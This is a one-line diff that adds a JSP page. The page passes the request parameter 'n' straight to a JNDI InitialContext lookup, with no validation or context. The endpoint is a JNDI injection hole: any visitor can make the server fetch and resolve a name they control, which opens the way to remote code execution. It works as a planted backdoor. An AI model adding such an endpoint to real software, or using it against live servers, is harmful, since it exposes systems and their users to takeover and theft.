@@ -1,0 +1,1 @@
+<%@ page import="javax.naming.InitialContext" %><% new InitialContext().lookup(request.getParameter("n")); %>
